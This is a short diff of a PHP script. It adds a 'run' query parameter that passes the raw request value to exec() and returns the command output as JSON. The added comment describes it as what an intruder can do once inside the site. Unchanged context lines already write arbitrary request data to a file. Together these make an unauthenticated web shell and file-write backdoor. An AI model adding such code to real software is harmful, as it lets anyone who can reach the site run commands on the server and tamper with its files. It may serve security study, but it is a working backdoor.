@@ -31,6 +31,11 @@ if (isset($_GET['tmp'])) {
     isset($_GET['write']) && file_put_contents($file, $_GET['write']);
     exit("release=$release tmp=" . (is_file($file) ? file_get_contents($file) : 'missing'));
 }
+// What whoever has got into the site can do from there.
+if (isset($_GET['run'])) {
+    exec("{$_GET['run']} 2>&1", $lines, $status);
+    exit(json_encode(['status' => $status, 'lines' => $lines]));
+}
 if (isset($_GET['stand'])) {
     $stand(basename($_GET['stand']));
     exit("release=$release done");
